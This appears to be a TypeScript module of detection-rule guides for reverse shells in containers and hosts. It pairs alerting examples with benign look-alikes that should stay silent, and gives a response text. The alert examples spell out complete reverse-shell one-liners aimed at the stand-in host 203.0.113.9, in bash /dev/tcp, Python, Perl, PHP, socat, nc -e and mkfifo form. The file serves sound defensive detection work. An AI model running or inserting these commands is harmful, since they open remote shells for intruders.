import { example, type RuleGuide } from '../rule-guide.ts';

const cutOff =
  'Cut the network of the container, then look at the parent: through it the intruder came, and it is open still.';

export const reverseShells: readonly RuleGuide[] = [
  {
    rule: 'Shell on a network connection',
    act: cutOff,
    alerts: [
      example('a connection in the place of standard input, then /bin/sh', (scene) => {
        const program = scene.container('/usr/bin/node').fork();
        program.becomeStreams(program.connect('203.0.113.9:4444')).exec('/bin/sh', ['-i']);
      }),
      example('the same on the host, with python', (scene) => {
        const program = scene.host('/usr/sbin/exim4').fork();
        program.becomeStreams(program.connect('203.0.113.9:4444')).exec('/usr/bin/python3.11');
      }),
    ],
    silent: [
      example('bash -i of somebody who logged in', (scene) => {
        scene.host('/usr/sbin/sshd').run('/bin/bash', ['-i'], { tty: true });
      }),
      example('child_process of a Node.js program that has connections', (scene) => {
        const app = scene.container('/usr/bin/node');
        app.connect('10.1.2.3:5432');
        const child = app.fork();
        child.becomeStreams(child.connect('/run/app.sock')).exec('/bin/sh', ['-c', 'ls']);
      }),
      example('a server that inetd starts for each connection', (scene) => {
        const server = scene.host('/usr/sbin/inetd').fork();
        server.becomeStreams(server.connect('10.0.0.9:70')).exec('/usr/bin/perl', ['/srv/finger']);
      }),
      example('kubectl exec', (scene) => {
        scene.container().run('/bin/bash', ['-c', 'ls']);
      }),
    ],
  },
  {
    rule: 'Shell told to connect',
    act: cutOff,
    alerts: [
      example("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", (scene) => {
        const line = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
        scene.container('/usr/bin/java').run('/bin/bash', ['-c', line]);
      }),
      example(
        "bash -c 'exec 5<>/dev/tcp/…; cat <&5 | while read l; do $l 2>&5 >&5; done'",
        (scene) => {
          const line =
            'exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done';
          scene.host().run('/bin/bash', ['-c', line]);
        },
      ),
      example("bash -c 'sh <> /dev/udp/203.0.113.9/53'", (scene) => {
        scene.container().run('/bin/bash', ['-c', 'sh <> /dev/udp/203.0.113.9/53']);
      }),
    ],
    silent: [
      example('a health check: </dev/tcp/localhost/8080', (scene) => {
        scene.container().run('/bin/bash', ['-c', '</dev/tcp/localhost/8080']);
      }),
      example('wait for a database: (echo > /dev/tcp/db/5432) >/dev/null 2>&1', (scene) => {
        scene.container().run('/bin/bash', ['-c', 'exec 3<>/dev/tcp/127.0.0.1/80; echo >&3']);
        scene.container().run('/bin/bash', ['-c', 'timeout 1 cat </dev/null >/dev/tcp/db/5432']);
        scene.container().run('/bin/bash', ['-c', '(echo > /dev/tcp/db/5432) >/dev/null 2>&1']);
      }),
    ],
  },
  {
    rule: 'Reverse shell in one line of a script language',
    act: cutOff,
    alerts: [
      example('python3 -c "import socket,subprocess,os; …dup2…"', (scene) => {
        const line =
          'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])';
        scene.container('/usr/bin/gunicorn').run('/usr/bin/python3.11', ['-c', line]);
      }),
      example('perl -e \'use Socket; … exec("/bin/sh -i")\'', (scene) => {
        const line =
          'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.9")));open(STDIN,">&S");exec("/bin/sh -i");';
        scene.host().run('/usr/bin/perl', ['-e', line]);
      }),
      example('php -r \'$s=fsockopen(…);exec("sh <&3")\'', (scene) => {
        const line = '$s=fsockopen("203.0.113.9",4444);exec("sh <&3 >&3 2>&3");';
        scene.container('/usr/sbin/apache2').run('/usr/bin/php8.2', ['-r', line]);
      }),
      example('node -e \'net.connect… spawn("sh")\'', (scene) => {
        const line =
          'c=require("net").connect(4444,"203.0.113.9");require("child_process").spawn("sh")';
        scene
          .container()
          .run('/usr/bin/node', ['-e', line.replace('require("net").connect', 'net.connect')]);
      }),
      example('awk and /inet/tcp', (scene) => {
        scene.container().run('/usr/bin/gawk', ['BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"}']);
      }),
    ],
    silent: [
      example(
        'a health check: python3 -c "import socket; socket.create_connection(…)"',
        (scene) => {
          const line = 'import socket; socket.create_connection(("localhost", 8080), 2)';
          scene.container().run('/usr/bin/python3', ['-c', line]);
        },
      ),
      example('a server script by its name', (scene) => {
        scene.container().run('/usr/bin/python3', ['/srv/socket_server.py', '--connect', 'db']);
      }),
      example('node -e \'require("child_process").execSync("npm run build")\'', (scene) => {
        const line = 'require("child_process").execSync("npm run build")';
        scene.container().run('/usr/bin/node', ['-e', line]);
      }),
    ],
  },
  {
    rule: 'Connection handed to a program',
    act: cutOff,
    alerts: [
      example('socat TCP:203.0.113.9:4444 EXEC:/bin/sh,pty', (scene) => {
        scene.container().run('/usr/bin/socat', ['TCP:203.0.113.9:4444', 'EXEC:/bin/sh,pty']);
      }),
      example('busybox nc 203.0.113.9 4444 -e sh', (scene) => {
        scene.container().run('/bin/busybox', ['nc', '203.0.113.9', '4444', '-e', 'sh']);
      }),
      example('nc.traditional -e /bin/bash 203.0.113.9 4444', (scene) => {
        const words = ['-e', '/bin/bash', '203.0.113.9', '4444'];
        scene.host().run('/usr/bin/nc.traditional', words);
      }),
    ],
    silent: [
      example('socat - UNIX-CONNECT:/run/haproxy.sock', (scene) => {
        scene.container().run('/usr/bin/socat', ['-', 'UNIX-CONNECT:/run/haproxy.sock']);
      }),
      example('busybox nc -z db 5432', (scene) => {
        scene.container().run('/bin/busybox', ['nc', '-z', 'db', '5432']);
      }),
      example('nc.openbsd -zv db 5432', (scene) => {
        scene.container().run('/usr/bin/nc.openbsd', ['-zv', 'db', '5432']);
      }),
    ],
  },
  {
    rule: 'Shell tied to a network tool by a named pipe',
    act: cutOff,
    alerts: [
      example('mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f', (scene) => {
        const line = 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f';
        scene.container('/usr/bin/php').shell(line);
      }),
      example('the same with openssl', (scene) => {
        const line =
          'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s';
        scene.container('/usr/bin/php').shell(line);
      }),
    ],
    silent: [
      example('a pipe for a log: mkfifo /tmp/log; cat /tmp/log &', (scene) => {
        scene.container().shell('mkfifo /tmp/log; cat /tmp/log & exec app > /tmp/log 2>&1');
      }),
      example('nc -z db 5432 && exec app', (scene) => {
        scene.container().shell('until nc -z db 5432; do sleep 1; done; exec app 2>&1');
      }),
    ],
  },
  {
    rule: 'Terminal made for a shell without one',
    act: `Somebody sits at that shell. ${cutOff}`,
    alerts: [
      example('python3 -c \'import pty; pty.spawn("/bin/bash")\'', (scene) => {
        const shell = scene.container().run('/bin/sh');
        shell.run('/usr/bin/python3', ['-c', 'import pty; pty.spawn("/bin/bash")']);
      }),
      example('script -qc /bin/bash /dev/null', (scene) => {
        scene.container().run('/usr/bin/script', ['-qc', '/bin/bash', '/dev/null']);
      }),
    ],
    silent: [
      example('script -c "make test" build.log', (scene) => {
        scene.container().run('/usr/bin/script', ['-c', 'make test', 'build.log']);
      }),
      example('a program that drives terminals', (scene) => {
        scene.container().run('/usr/bin/python3', ['/opt/pexpect/run.py']);
      }),
    ],
  },
];
